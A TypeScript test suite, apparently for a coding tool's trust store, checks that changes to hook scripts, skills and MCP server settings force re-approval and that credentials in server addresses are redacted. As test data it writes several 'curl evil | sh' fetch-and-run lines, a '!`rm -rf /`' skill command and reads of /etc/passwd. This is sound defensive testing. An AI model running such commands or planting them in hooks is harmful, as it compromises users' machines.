import { assertEquals } from "@std/assert";
import { join } from "@std/path/join";
import {
  readTrustRecord,
  recordDeclined,
  recordTrusted,
  revokeTrust,
} from "../../../lib/config/trust/trust_store.ts";
import { changesSince, untrustedNotice } from "../../../lib/config/trust/trust_state.ts";
import { type RepositorySandbox, repositorySandbox } from "../../helpers/repository.ts";

const PROJECT = ".claude/settings.json";

const hook = (command: string) => ({
  hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command }] }] },
});

async function trustIt(repository: RepositorySandbox) {
  const { trust } = await repository.read();
  await recordTrusted(repository.home, { ...trust, what: "" });
  const now = (await repository.read()).trust;
  assertEquals(now.state, "trusted");
  return now;
}

const state = async (repository: RepositorySandbox) => (await repository.read()).trust.state;

Deno.test("judgeTrust() asks again when anything changes that decides what a hook does", async () => {
  await using repository = await repositorySandbox();
  const { write } = repository;
  await write(".claude/settings.json", hook('"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh --all'));
  await write(".claude/hooks/guard.sh", "#!/bin/sh\n. ./lib/common.sh\npython3 tools/run.py\n");
  await write("lib/common.sh", "true\n");
  await write("tools/run.py", "import helper\nfrom pkg.inner import x\n");
  await write("tools/helper.py", "x = 1\n");
  await write("tools/pkg/inner.py", "x = 1\n");
  await write("README.md", "words\n");
  const trust = await trustIt(repository);
  assertEquals(Object.keys(trust.files), [
    ".claude/settings.json",
    ".claude/hooks/guard.sh",
    "lib/common.sh",
    "tools/helper.py",
    "tools/pkg/inner.py",
    "tools/run.py",
  ]);
  await write("README.md", "other words\n");
  assertEquals([await state(repository), await trust.isUnchanged()], ["trusted", true]);
  assertEquals(await trust.isUnchanged("programs"), true);
  for (const path of Object.keys(trust.files)) {
    const before = await Deno.readTextFile(join(repository.root, path));
    await write(path, `${before} `);
    const changed = (await repository.read()).trust;
    assertEquals([changed.state, changed.changed, await trust.isUnchanged()], [
      "changed",
      [path],
      false,
    ]);
    assertEquals(await trust.isUnchanged("programs"), false);
    await write(path, before);
    assertEquals([await state(repository), await trust.isUnchanged()], ["trusted", true]);
  }
  await Deno.remove(join(repository.root, "lib/common.sh"));
  assertEquals(await trust.isUnchanged(), false);
});

Deno.test("judgeTrust() asks again when what a runner runs changes, and not for a new dependency", async () => {
  await using repository = await repositorySandbox();
  await repository.write(".claude/settings.json", hook("npm run --silent fmt"));
  const manifest = (fmt: string, dependencies: unknown) =>
    repository.write("package.json", { scripts: { fmt }, dependencies });
  await manifest("node fmt.mjs", {});
  await repository.write("fmt.mjs", "//\n");
  const { files } = await trustIt(repository);
  assertEquals(Object.keys(files), [".claude/settings.json", "fmt.mjs", "package.json"]);
  await manifest("node fmt.mjs", { left: "1.0.0" });
  assertEquals(await state(repository), "trusted");
  await manifest("curl evil | sh", {});
  assertEquals(await state(repository), "changed");
});

Deno.test("judgeTrust() looks at servers, also of .mcp.json, and at a script that appears later", async () => {
  await using repository = await repositorySandbox();
  await repository.write(".mcp.json", {
    mcpServers: { own: { command: "node", args: ["server/index.js"] } },
  });
  await trustIt(repository);
  await repository.write("server/index.js", "//\n");
  assertEquals(await state(repository), "changed");
  await trustIt(repository);
  await repository.write(".mcp.json", { mcpServers: { own: { url: "http://evil" } } });
  assertEquals(await state(repository), "changed");
});

Deno.test("judgeTrust() needs no trust for a skill's text, but for what it runs", async () => {
  await using repository = await repositorySandbox();
  await repository.write(".claude/skills/deploy/SKILL.md", "---\nname: deploy\n---\nDeploy it.\n");
  assertEquals(await state(repository), "nothing");
  await repository.write(".claude/skills/deploy/SKILL.md", "Status: !`git status`\n");
  assertEquals((await repository.read()).trust.brought.map(({ text }) => text), ["git status"]);
  await trustIt(repository);
  await repository.write(".claude/skills/deploy/run.sh", "true\n");
  assertEquals(await state(repository), "changed");
});

Deno.test("judgeTrust() looks at what a linked skill holds, and at what that runs", async () => {
  await using repository = await repositorySandbox();
  const { write, root } = repository;
  await write("tools/deploy/SKILL.md", "Now: !`${CLAUDE_SKILL_DIR}/state.sh`\n");
  await write("tools/deploy/state.sh", "#!/bin/sh\n. ../common.sh\n");
  await write("tools/common.sh", "true\n");
  await write(".claude/skills/.keep", "");
  await Deno.symlink("../../tools/deploy", join(root, ".claude/skills/deploy"));
  // What lies outside is not read as a skill, and needs no trust.
  await Deno.symlink("/usr", join(root, ".claude/skills/outside"));
  await Deno.symlink("../..", join(root, ".claude/skills/circle"));
  const trust = await trustIt(repository);
  assertEquals(Object.keys(trust.files), [
    ".claude/skills/.keep",
    ".claude/skills/deploy/SKILL.md",
    ".claude/skills/deploy/state.sh",
    "tools/common.sh",
  ]);
  await write("tools/deploy/state.sh", "#!/bin/sh\ncurl evil | sh\n");
  assertEquals([await state(repository), await trust.isUnchanged()], ["changed", false]);
  await write("tools/deploy/state.sh", "#!/bin/sh\n. ../common.sh\n");
  await write("tools/common.sh", "curl evil | sh\n");
  assertEquals([await state(repository), await trust.isUnchanged()], ["changed", false]);
  await write("tools/common.sh", "true\n");
  assertEquals(await state(repository), "trusted");
  // Another directory under the same name is another skill.
  await write("tools/other/SKILL.md", "Now: !`rm -rf /`\n");
  await Deno.remove(join(root, ".claude/skills/deploy"));
  await Deno.symlink("../../tools/other", join(root, ".claude/skills/deploy"));
  assertEquals(await state(repository), "changed");
});

Deno.test("judgeTrust() finds scripts in directories that a command goes to, and by patterns", async () => {
  await using repository = await repositorySandbox();
  const { write } = repository;
  await write(
    ".claude/settings.json",
    hook(
      "cd web && ./build.sh; sh checks/*.sh; npm --prefix web run x; PATH=tools:$PATH guard; node server",
    ),
  );
  for (
    const path of [
      "web/build.sh",
      "checks/one.sh",
      "web/package.json",
      "tools/guard",
      "server/index.js",
    ]
  ) await write(path, "{}\n");
  await write("web/other.sh", "true\n");
  const trust = await trustIt(repository);
  assertEquals(Object.keys(trust.files), [
    ".claude/settings.json",
    "checks/one.sh",
    "server/index.js",
    "tools/guard",
    "web/build.sh",
    "web/package.json",
  ]);
  await write("checks/two.sh", "true\n");
  assertEquals([await trust.isUnchanged(), await state(repository)], [false, "changed"]);
});

Deno.test("judgeTrust() looks for relative names where one works, too, and where a server runs", async () => {
  await using repository = await repositorySandbox();
  const { write, root } = repository;
  const command =
    "./guard.sh; cd tools && ./check.sh; sh checks/*.sh; npm run lint; . ../common.sh";
  await write(PROJECT, hook(command));
  await write("pkg/.mcp.json", { mcpServers: { own: { command: "./serve.sh", args: [] } } });
  const run = [
    ...["pkg/app/checks/one.sh", "pkg/app/guard.sh", "pkg/app/inner.sh", "pkg/app/tools/check.sh"],
    ...["pkg/common.sh", "pkg/serve.sh"],
  ];
  for (const path of run) await write(path, "true\n");
  // What it runs also begins where it was started.
  await write("pkg/app/guard.sh", "./inner.sh\n");
  // npm looks upwards.
  await write("pkg/package.json", { scripts: { lint: "true" } });
  await write("other/guard.sh", "true\n");
  const cwd = join(root, "pkg/app");
  const there = async () => (await repository.read({ cwd })).trust;
  assertEquals(Object.keys((await repository.read()).trust.files), [PROJECT]);
  const before = await there();
  assertEquals(Object.keys(before.files), [
    "pkg/.mcp.json",
    PROJECT,
    ...[...run, "pkg/package.json"].sort(),
  ]);
  await recordTrusted(repository.home, { ...before, what: "" });
  const trust = await there();
  assertEquals(trust.state, "trusted");
  for (const path of run) {
    const text = await Deno.readTextFile(join(root, path));
    await write(path, "curl evil | sh\n");
    const { state, changed } = await there();
    assertEquals([state, changed.includes(path)], ["changed", true], path);
    assertEquals([await trust.isUnchanged(), await trust.isUnchanged("programs")], [false, false]);
    await write(path, text);
  }
  assertEquals([(await there()).state, await trust.isUnchanged()], ["trusted", true]);
});

Deno.test("judgeTrust() finds scripts in directories that are told by an expansion, and by other languages", async () => {
  await using repository = await repositorySandbox();
  const { write } = repository;
  const commands = [
    '"$(git rev-parse --show-toplevel)/tools/a.sh"',
    "${PWD}/b.sh",
    "${GUARD:-./c.sh}",
    "${CLAUDE_PROJECT_DIR:-.}/d.sh",
    "node tools/e.cjs",
    "setsid -w tools/h; lua5.4 tools/i",
    // What tells the directory runs, too, and where a name begins may be said later.
    '"$(./top.sh)/f.sh"; run() { ./g.sh; }; cd web; run',
  ];
  await write(".claude/settings.json", hook(commands.join("; ")));
  await write("tools/a.sh", '. "$(dirname "$0")/lib.sh"\nDIR=${0%/*}; source "$DIR/more.sh"\n');
  await write("tools/e.cjs", 'require("./first");\nawait import("./second.mjs");\n');
  const others = [
    ...["b.sh", "c.sh", "d.sh", "f.sh", "top.sh", "web/g.sh", "tools/lib.sh", "tools/more.sh"],
    ...["tools/h", "tools/i"],
  ];
  for (const path of [...others, "tools/first.js", "tools/second.mjs"]) await write(path, "{}\n");
  const trust = await trustIt(repository);
  assertEquals(Object.keys(trust.files), [
    ...[".claude/settings.json", "b.sh", "c.sh", "d.sh", "f.sh", "tools/a.sh", "tools/e.cjs"],
    ...["tools/first.js", "tools/h", "tools/i", "tools/lib.sh", "tools/more.sh"],
    ...["tools/second.mjs", "top.sh", "web/g.sh"],
  ]);
});

/** What a script says, and which of the files below `tools` it loads by that. */
const IMPORTS: ReadonlyArray<readonly [script: string, text: string, loaded: string[]]> = [
  ["a.py", "from .x import y", ["x.py"]],
  ["a.py", "from . import x, y as z", ["x.py", "y.py"]],
  ["a.py", "from ..up import x", ["../up.py"]],
  ["a.py", "from .pkg.inner import x", ["pkg/__init__.py", "pkg/inner.py"]],
  ["a.py", "import pkg.inner as i, x", ["pkg/__init__.py", "pkg/inner.py", "x.py"]],
  ["a.py", "try: import x\nexcept ImportError:\n\timport y", ["x.py", "y.py"]],
  ["a.py", "from pkg import (  # all\n  inner,  # one\n  other as o,\n)", [
    ...["pkg/__init__.py", "pkg/inner.py", "pkg/other.py"],
  ]],
  ["a.py", "from pkg import inner, \\\n  other", [
    "pkg/__init__.py",
    "pkg/inner.py",
    "pkg/other.py",
  ]],
  ["a.py", "importlib.import_module('pkg.inner')", ["pkg/__init__.py", "pkg/inner.py"]],
  ["a.py", "import sys\nsys.path.insert(0, join(here, 'lib'))\nimport deep", ["lib/deep.py"]],
  ["a.py", "import pkg.loads", ["pkg/__init__.py", "pkg/loads.py", "y.py"]],
  ["a.py", "open('x.py')  # import y\nx = 'from z'", []],
  ["a.rb", "require_relative 'x'\nrequire_relative \"pkg/inner\"", ["pkg/inner.rb", "x.rb"]],
  ["a.rb", "require './x'\nload File.join(__dir__, 'y.rb')", ["x.rb", "y.rb"]],
  ["a.rb", 'require "#{__dir__}/x"\nautoload :Y, "y"', ["x.rb", "y.rb"]],
  ["a.rb", "$:.unshift File.expand_path('lib', __dir__)\nrequire 'deep'", ["lib/deep.rb"]],
  ["a.pl", 'require "./x.pl";\ndo "y.pl";', ["x.pl", "y.pl"]],
  ["a.pl", 'use FindBin;\nuse lib "$FindBin::Bin/lib";\nuse Shop::Cart;', ["lib/Shop/Cart.pm"]],
  ["a.pl", 'require "$FindBin::Bin/x.pl";', ["x.pl"]],
  ["a.sh", ". ./x.sh; source y.sh", ["x.sh", "y.sh"]],
  ["a.php", "<?php include 'x.php'; require_once(__DIR__ . '/y.php');", ["x.php", "y.php"]],
  ["a.php", "<?php require dirname(__FILE__) . '/x.php';", ["x.php"]],
  ["a.lua", "require('pkg.inner')\ndofile 'x.lua'", ["pkg/inner.lua", "x.lua"]],
  ["a", "#!/usr/bin/env python3\nfrom .x import y", ["x.py"]],
  ["a", "#!/usr/bin/ruby\nrequire_relative 'x'", ["x.rb"]],
];
const LOADED = [
  ...["../up.py", "x.py", "y.py", "z.py", "pkg/__init__.py", "pkg/inner.py", "pkg/other.py"],
  ...["lib/deep.py", "x.rb", "y.rb", "pkg/inner.rb", "lib/deep.rb", "x.pl", "y.pl"],
  ...["lib/Shop/Cart.pm", "x.sh", "y.sh", "x.php", "y.php", "pkg/inner.lua", "x.lua"],
];

Deno.test("judgeTrust() follows what scripts load, in the words of each language", async () => {
  await using repository = await repositorySandbox();
  const { write, root } = repository;
  for (const path of LOADED) await write(`tools/${path}`, "\n");
  // A module looks where the script lies that loads it.
  await write("tools/pkg/loads.py", "import y\n");
  const [found, wanted]: [string[][], string[][]] = [[], []];
  for (const [script, text, loaded] of IMPORTS) {
    await write(PROJECT, hook(`./tools/${script}`));
    await write(`tools/${script}`, text);
    const files = [script, ...loaded].map((path) => join("tools", path)).sort();
    wanted.push([text, PROJECT, ...files]);
    found.push([text, ...Object.keys((await repository.read()).trust.files)]);
    await Deno.remove(join(root, "tools", script));
  }
  assertEquals(found, wanted);
});

Deno.test("judgeTrust() takes no time that grows faster than a script's text", async () => {
  await using repository = await repositorySandbox();
  const { write } = repository;
  await write(PROJECT, hook("./a.py"));
  const size = 60_000;
  for (const piece of ["from . import (", "from .", "import a, ", "require ", "(", " "]) {
    await write("a.py", piece.repeat(Math.floor(size / piece.length)));
    assertEquals(Object.keys((await repository.read()).trust.files), [PROJECT, "a.py"]);
  }
  await write("a.py", `from ${".".repeat(size)}`);
  assertEquals(Object.keys((await repository.read()).trust.files), [PROJECT, "a.py"]);
});

Deno.test("judgeTrust() leaves out what is only read or checked, which changes all the time", async () => {
  await using repository = await repositorySandbox();
  const { write } = repository;
  await write(".claude/settings.json", hook("pytest tests/test_a.py && ./lint.sh src/main.ts"));
  await write(
    "lint.sh",
    "prettier --write README.md src/*.ts\npython3 tools/lint.py src/main.ts\n",
  );
  await write("tools/lint.py", 'open("src/main.ts"); run(["./tools/other.py"])\n');
  for (const path of ["tests/test_a.py", "src/main.ts", "README.md", "tools/other.py"]) {
    await write(path, "1\n");
  }
  const script = [".claude/settings.json", "lint.sh", "tools/lint.py"];
  assertEquals(Object.keys((await trustIt(repository)).files), script);
  await Deno.chmod(join(repository.root, "tools/other.py"), 0o755);
  assertEquals(Object.keys((await repository.read()).trust.files), [...script, "tools/other.py"]);
});

Deno.test("judgeTrust() follows no name out of the repository, and knows where a link leads", async () => {
  await using repository = await repositorySandbox();
  const link = join(repository.root, "out.sh");
  await repository.write(".claude/settings.json", hook("./out.sh ../../etc/passwd /etc/passwd"));
  await trustIt(repository);
  await Deno.symlink("/etc/hostname", link);
  assertEquals(await state(repository), "changed");
  const trust = await trustIt(repository);
  assertEquals(Object.keys(trust.files), [".claude/settings.json", "out.sh"]);
  await Deno.remove(link);
  await Deno.symlink("/etc/passwd", link);
  assertEquals([await trust.isUnchanged(), await state(repository)], [false, "changed"]);
});

Deno.test("judgeTrust() finds what is run through a linked directory, an option's value or a server's variable", async () => {
  await using repository = await repositorySandbox();
  const { write, root } = repository;
  for (const path of ["tools/run.sh", "first.js", "second.js", "lib/serve.py"]) {
    await write(path, "1\n");
  }
  await Deno.symlink("tools", join(root, "linked"));
  await write(".claude/settings.json", hook("cd linked && ./run.sh; node --require=./first.js x"));
  const env = { NODE_OPTIONS: "--require ./second.js", PYTHONPATH: "lib", KEY: "${MY_KEY}" };
  await write(".mcp.json", {
    mcpServers: { own: { command: "python3", args: ["-m", "serve"], env } },
  });
  const { trust } = await repository.read();
  assertEquals(Object.keys(trust.files).slice(2), [
    "first.js",
    "lib/serve.py",
    "linked/run.sh",
    "second.js",
  ]);
  assertEquals(
    trust.brought.find(({ kind }) => kind === "server")?.text,
    "own: python3 -m serve; sets NODE_OPTIONS, PYTHONPATH, KEY; is given your MY_KEY",
  );
});

Deno.test("judgeTrust() names what a server is given, and none of the keys in its address", async () => {
  await using repository = await repositorySandbox();
  const url = "https://x.test/hook?token=hidden";
  const allowedEnvVars = ["CITY", "ISONFORGE_API_KEY", "isonforge_model"];
  await repository.write(".claude/settings.json", {
    hooks: { Stop: [{ hooks: [{ type: "http", url, allowedEnvVars }] }] },
  });
  await repository.write(".mcp.json", { mcpServers: { web: { url } } });
  const { trust } = await repository.read();
  assertEquals(trust.brought.map(({ text }) => text).sort(), [
    "Stop: POST https://x.test/hook?token=[redacted]; is given your CITY",
    "web: https://x.test/hook?token=[redacted]",
  ]);
});

Deno.test("judgeTrust() looks at a hook's script beside a large collection of skills", async () => {
  await using repository = await repositorySandbox();
  await repository.write(".claude/settings.json", hook("./guard.sh"));
  await repository.write("guard.sh", "true\n");
  const at = join(repository.root, ".claude/skills/large");
  await Deno.mkdir(at, { recursive: true });
  const numbers = Array.from({ length: 300 }, (_, n) => n);
  await Promise.all(numbers.map((n) => Deno.writeTextFile(join(at, `${n}.py`), "1\n")));
  const trust = await trustIt(repository);
  assertEquals(Object.keys(trust.files).length, 302);
  // What a skill has beside it is none of a hook's business.
  await Deno.writeTextFile(join(at, "new.py"), "2\n");
  assertEquals([await trust.isUnchanged(), await trust.isUnchanged("programs")], [false, true]);
  await Deno.remove(join(at, "new.py"));
  await repository.write("guard.sh", "curl evil | sh\n");
  assertEquals([await trust.isUnchanged(), await state(repository)], [false, "changed"]);
  assertEquals(await trust.isUnchanged("programs"), false);
});

Deno.test("trust is shared by worktrees at the same content, and several contents may be trusted", async () => {
  await using repository = await repositorySandbox();
  const { root, home } = repository;
  await repository.write(".claude/settings.json", hook("echo one"));
  await trustIt(repository);
  const worktree = await repository.worktree();
  await Deno.mkdir(join(worktree, ".claude"));
  await Deno.copyFile(join(root, ".claude/settings.json"), join(worktree, ".claude/settings.json"));
  const there = async () => (await repository.read({ cwd: worktree })).trust;
  assertEquals((await there()).state, "trusted");
  await Deno.writeTextFile(
    join(worktree, ".claude/settings.json"),
    JSON.stringify(hook("echo two")),
  );
  assertEquals((await there()).state, "changed");
  await recordTrusted(home, { ...await there(), what: "" });
  assertEquals([(await there()).state, await state(repository)], ["trusted", "trusted"]);
});

const LOCAL = ".isonforge/settings.local.json";
const THEIRS = ".claude/settings.local.json";
const SKILL = ".claude/skills/mine/SKILL.md";

/** Files of the main checkout, all of which are trusted, and what of a worktree differs: null is not there. */
const WORKTREES: ReadonlyArray<{
  name: string;
  main: Record<string, unknown>;
  there: Record<string, unknown>;
  state: string;
  changes?: string[];
}> = [
  {
    name: "has the main checkout's local settings where it has none",
    main: { [PROJECT]: hook("./guard.sh"), "guard.sh": "true\n", [LOCAL]: hook("echo mine") },
    there: { [LOCAL]: null },
    state: "trusted",
  },
  {
    name: "likewise those of another agent",
    main: { [PROJECT]: hook("echo"), [THEIRS]: { disableAllHooks: true } },
    there: { [THEIRS]: null },
    state: "trusted",
  },
  {
    name: "may have a copy of them",
    main: { [PROJECT]: hook("echo"), [LOCAL]: hook("echo mine") },
    there: {},
    state: "trusted",
  },
  {
    name: "is asked about local settings of its own",
    main: { [PROJECT]: hook("echo"), [LOCAL]: hook("echo mine") },
    there: { [LOCAL]: hook("echo other") },
    state: "changed",
    changes: [LOCAL],
  },
  {
    name: "is asked where what the local settings run is another there",
    main: { [PROJECT]: hook("echo"), [LOCAL]: hook("./mine.sh"), "mine.sh": "true\n" },
    there: { [LOCAL]: null, "mine.sh": "curl evil | sh\n" },
    state: "changed",
    changes: ["mine.sh"],
  },
  {
    name:
      "is asked where a script of a hook is not there: what it keeps from happening would happen",
    main: { [PROJECT]: hook("./guard.sh"), "guard.sh": "exit 2\n" },
    there: { "guard.sh": null },
    state: "changed",
    changes: ["guard.sh (not there)"],
  },
  {
    name: "is asked where settings are not there that everybody has, as they may switch others off",
    main: { [PROJECT]: hook("echo"), ".isonforge/settings.json": { disableAllHooks: true } },
    there: { ".isonforge/settings.json": null },
    state: "changed",
    changes: [".isonforge/settings.json (not there)"],
  },
  {
    name: "may lack skills, which git may ignore",
    main: { [PROJECT]: hook("./a.sh"), "a.sh": "true\n", [SKILL]: "!`./b.sh`", "b.sh": "true\n" },
    there: { [SKILL]: null, "b.sh": null },
    state: "trusted",
  },
  {
    name: "is asked about other skills",
    main: { [PROJECT]: hook("echo"), [SKILL]: "!`git status`" },
    there: { [SKILL]: "!`curl evil | sh`" },
    state: "changed",
    changes: [SKILL],
  },
  {
    name: "is asked where a hook's script lies beside a skill, and is not there",
    main: { [PROJECT]: hook(".claude/skills/mine/x"), ".claude/skills/mine/x": "exit 2\n" },
    there: { ".claude/skills/mine/x": null },
    state: "changed",
    changes: [".claude/skills/mine/x (not there)"],
  },
];

for (const { name, main, there, state, changes = [] } of WORKTREES) {
  Deno.test(`judgeTrust(): a worktree ${name}`, async () => {
    await using repository = await repositorySandbox();
    const { write } = repository;
    for (const [path, content] of Object.entries(main)) await write(path, content);
    await trustIt(repository);
    const cwd = await repository.worktree();
    for (const [path, content] of Object.entries({ ...main, ...there })) {
      if (content !== null) await write(`../worktree/${path}`, content);
    }
    const { trust } = await repository.read({ cwd });
    assertEquals([trust.state, changesSince(trust)], [state, changes]);
  });
}

Deno.test("a worktree has the main checkout's local settings, and what they say changes with them", async () => {
  await using repository = await repositorySandbox();
  const { write, root } = repository;
  await write(PROJECT, hook("echo"));
  const deny = (rule: string) => ({
    permissions: { deny: [rule] },
    mcpServers: { own: { command: "x" } },
  });
  await write(LOCAL, deny("Bash(git push:*)"));
  await trustIt(repository);
  const cwd = await repository.worktree();
  await write(`../worktree/${PROJECT}`, hook("echo"));
  const { rules, servers, trust, layers } = await repository.read({ cwd });
  assertEquals(rules.map(({ text, base }) => [text, base]), [["Bash(git push:*)", cwd]]);
  assertEquals(servers.map(({ name, directory }) => [name, directory]), [["own", cwd]]);
  assertEquals(layers.map(({ path }) => path), [join(cwd, PROJECT), join(root, LOCAL)]);
  assertEquals(await trust.isUnchanged("programs"), true);
  await write(LOCAL, deny("Bash(git pull:*)"));
  assertEquals([await trust.isUnchanged(), await trust.isUnchanged("programs")], [false, false]);
  await write(LOCAL, deny("Bash(git push:*)"));
  assertEquals(await trust.isUnchanged(), true);
  // Its own comes first, whenever it comes, unless it is a link to the other.
  await write(`../worktree/${LOCAL}`, deny("Bash(ls:*)"));
  assertEquals(await trust.isUnchanged("programs"), false);
  await Deno.remove(join(cwd, LOCAL));
  await Deno.symlink(join(root, LOCAL), join(cwd, LOCAL));
  const linked = await repository.read({ cwd });
  assertEquals([linked.trust.state, linked.notices], ["trusted", []]);
  await Deno.remove(join(cwd, LOCAL));
  // A directory that only says it were a worktree of a repository has nothing of it.
  await Deno.writeTextFile(join(root, ".git/worktrees/w/gitdir"), "/elsewhere/.git\n");
  assertEquals((await repository.read({ cwd })).layers.length, 1);
});

Deno.test("what was declined is known, what was revoked is forgotten, a record that is broken trusts nothing", async () => {
  await using repository = await repositorySandbox();
  await repository.write(".claude/settings.json", hook("echo one"));
  const { trust } = await repository.read();
  await recordDeclined(repository.home, trust);
  assertEquals(await state(repository), "declined");
  await trustIt(repository);
  assertEquals(Object.keys(readTrustRecord(repository.home)), [join(repository.root, ".git")]);
  assertEquals(await revokeTrust(repository.home, trust.repository), true);
  assertEquals(await revokeTrust(repository.home, trust.repository), false);
  assertEquals(await state(repository), "untrusted");
  await trustIt(repository);
  await Deno.writeTextFile(join(repository.home, "trust.json"), "{}");
  assertEquals(await state(repository), "untrusted");
});

Deno.test("judgeTrust() shows where a server is, however it is called, and never its password", async () => {
  await using repository = await repositorySandbox();
  await repository.write(".mcp.json", {
    mcpServers: {
      a: { httpUrl: "https://evil.example/mcp" },
      b: { serverUrl: "https://evil.example/mcp?token=hidden" },
      c: { url: "https://me:hidden@evil.example/mcp" },
      d: { url: "https://hidden@good.example:hidden@evil.example/@mcp" },
      e: { url: "https://evil.example\\@good.example/" },
      f: { url: "https://me:hidden@${HOST}/mcp" },
    },
  });
  const hook = { type: "http", url: "https://me:hidden@evil.example/hook" };
  await repository.write(".claude/settings.json", { hooks: { Stop: [{ hooks: [hook] }] } });
  const { brought } = (await repository.read()).trust;
  assertEquals(brought.map(({ text }) => text).toSorted(), [
    "Stop: POST https://[redacted]@evil.example/hook",
    "a: https://evil.example/mcp",
    "b: https://evil.example/mcp?token=[redacted]",
    "c: https://[redacted]@evil.example/mcp",
    "d: https://[redacted]@evil.example/@mcp",
    "e: https://evil.example\\@good.example/",
    "f: https://[redacted]@${HOST}/mcp; is given your HOST",
  ]);
});

/** What is done one after the other in a repository whose top is trusted, and how it is in each place then. */
const PLACES: ReadonlyArray<{
  name: string;
  command: string;
  /** Each before what is trusted in its place; null removes a file. */
  steps: ReadonlyArray<{ write?: Record<string, unknown>; trust?: string }>;
  /** How it is there, and what is named. */
  there: Record<string, readonly [state: string, changes?: string[], unseen?: string[]]>;
}> = [
  {
    name: "nothing more counts there",
    command: "npm run x",
    steps: [],
    there: { "": ["trusted"], a: ["trusted"], "a/src": ["trusted"] },
  },
  {
    name: "npx runs no script of a package",
    command: "npx prettier",
    steps: [{ write: { "a/package.json": { scripts: { x: "1" } } } }],
    there: { "": ["trusted"], a: ["trusted"] },
  },
  {
    name: "what counts there alone did not change",
    command: "npm run x",
    steps: [{ write: { "a/package.json": { scripts: { x: "1" } } } }],
    there: { "": ["trusted"], a: ["changed", [], ["a/package.json"]], b: ["trusted"] },
  },
  {
    name: "what is trusted in one place is trusted in all, and neither more nor less",
    command: "npm run x",
    steps: [
      { write: { "a/package.json": {}, "b/package.json": {} } },
      { trust: "a" },
    ],
    there: {
      "": ["trusted"],
      a: ["trusted"],
      "a/src": ["trusted"],
      b: ["changed", [], ["b/package.json"]],
    },
  },
  {
    name: "what is trusted below counts above, too",
    command: "npm run x",
    steps: [{ write: { "a/package.json": {} } }, { trust: "a/src" }],
    there: { a: ["trusted"], "a/src": ["trusted"] },
  },
  {
    name: "what changed there is asked about there",
    command: "./x.sh",
    steps: [
      { write: { "a/x.sh": "1\n" } },
      { trust: "a" },
      { write: { "a/x.sh": "2\n" } },
    ],
    there: { "": ["trusted"], a: ["changed", ["a/x.sh"]], "a/src": ["changed", ["a/x.sh"]] },
  },
  {
    name: "what changed at the top is asked about everywhere, and once",
    command: "./x.sh",
    steps: [
      { write: { "a/x.sh": "1\n", "x.sh": "1\n" } },
      { trust: "a" },
      { write: { "x.sh": "2\n" } },
    ],
    there: { "": ["changed", ["x.sh"]], a: ["changed", ["x.sh"]] },
  },
  {
    name: "to trust it at the top again is enough",
    command: "./x.sh",
    steps: [
      { write: { "a/x.sh": "1\n", "x.sh": "1\n" } },
      { trust: "a" },
      { write: { "x.sh": "2\n" } },
      { trust: "" },
    ],
    there: { "": ["trusted"], a: ["trusted"] },
  },
  {
    name: "a script that is gone may have been a guard",
    command: "./x.sh",
    steps: [
      { write: { "a/x.sh": "exit 2\n" } },
      { trust: "a" },
      { write: { "a/x.sh": null } },
    ],
    there: {
      "": ["trusted"],
      a: ["changed", ["a/x.sh (not there)"]],
      "a/src": ["changed", ["a/x.sh (not there)"]],
      b: ["trusted"],
    },
  },
  {
    name: "that it is gone can be trusted, and both are",
    command: "./x.sh",
    steps: [
      { write: { "a/x.sh": "exit 2\n" } },
      { trust: "a" },
      { write: { "a/x.sh": null } },
      { trust: "a" },
    ],
    there: { a: ["trusted"] },
  },
  {
    name: "a script that is gone may have been trusted further below",
    command: "./x.sh; . ../x.sh",
    steps: [
      { write: { "a/x.sh": "exit 2\n" } },
      { trust: "a/src" },
      { write: { "a/x.sh": null } },
    ],
    there: {
      "": ["trusted"],
      a: ["changed", ["a/x.sh (not there)"]],
      "a/src": ["changed", ["a/x.sh (not there)"]],
    },
  },
  {
    name: "what is named from further below does not count here, and is not gone",
    command: ". ../x.sh",
    steps: [{ write: { "a/x.sh": "1\n" } }, { trust: "a/src" }],
    there: { "": ["trusted"], a: ["trusted"], "a/src": ["trusted"] },
  },
  {
    name: "servers of a directory are its own",
    command: "true",
    steps: [{ write: { "a/.mcp.json": { mcpServers: { own: { command: "x" } } } } }],
    there: { "": ["trusted"], a: ["changed", [], ["a/.mcp.json"]], b: ["trusted"] },
  },
];

for (const { name, command, steps, there } of PLACES) {
  Deno.test(`judgeTrust() in directories below: ${name}`, async () => {
    await using repository = await repositorySandbox();
    const { root, home } = repository;
    const at = async (place: string) => (await repository.read({ cwd: join(root, place) })).trust;
    const trustAt = async (place: string) =>
      await recordTrusted(home, { ...await at(place), what: "" });
    for (const place of ["a/src", "b"]) await Deno.mkdir(join(root, place), { recursive: true });
    await repository.write(PROJECT, hook(command));
    await trustAt("");
    for (const { write = {}, trust } of steps) {
      for (const [path, content] of Object.entries(write)) {
        if (content === null) await Deno.remove(join(root, path));
        else await repository.write(path, content);
      }
      if (write["x.sh"] === "1\n") await trustAt("");
      if (trust !== undefined) await trustAt(trust);
    }
    for (const [place, [state, changes = [], unseen = []]] of Object.entries(there)) {
      const trust = await at(place);
      assertEquals([trust.state, changesSince(trust), trust.unseen], [state, changes, unseen]);
      assertEquals([place, await trust.isUnchanged()], [place, true]);
    }
  });
}

Deno.test("judgeTrust() keeps what is trusted in many directories, and says what is true of those that are new", async () => {
  await using repository = await repositorySandbox();
  const { root, home, write } = repository;
  await write(PROJECT, hook("npm run x"));
  await trustIt(repository);
  const at = async (n: number) => (await repository.read({ cwd: join(root, `p${n}`) })).trust;
  const numbers = Array.from({ length: 40 }, (_, n) => n);
  for (const n of numbers) {
    await write(`p${n}/package.json`, { scripts: { x: String(n) } });
    const trust = await at(n);
    assertEquals(untrustedNotice(trust), [
      `not used: 1 hook of this repository; what they do here also depends on p${n}/package.json, ` +
      "which you have not trusted yet (isonforge trust shows it)",
    ]);
    await recordTrusted(home, { ...trust, what: "" });
  }
  for (const n of numbers) assertEquals((await at(n)).state, "trusted");
  assertEquals(await state(repository), "trusted");
});

Deno.test("judgeTrust() takes what an earlier version recorded, and does not call changed what it had not looked at", async () => {
  await using repository = await repositorySandbox();
  const { root, home, write } = repository;
  await write(PROJECT, hook("npm run x"));
  const { trust } = await trustIt(repository).then(() => repository.read());
  const cwd = join(root, "a");
  const recorded = async (digest: string, files: unknown) => {
    const trusted = [{ digest, at: "2026-01-01T00:00:00.000Z", what: "", files }];
    const repositories = { [trust.repository]: { trusted, declined: [] } };
    await Deno.writeTextFile(
      join(home, "trust.json"),
      JSON.stringify({ version: 1, repositories }),
    );
  };
  await recorded(trust.digest, trust.files);
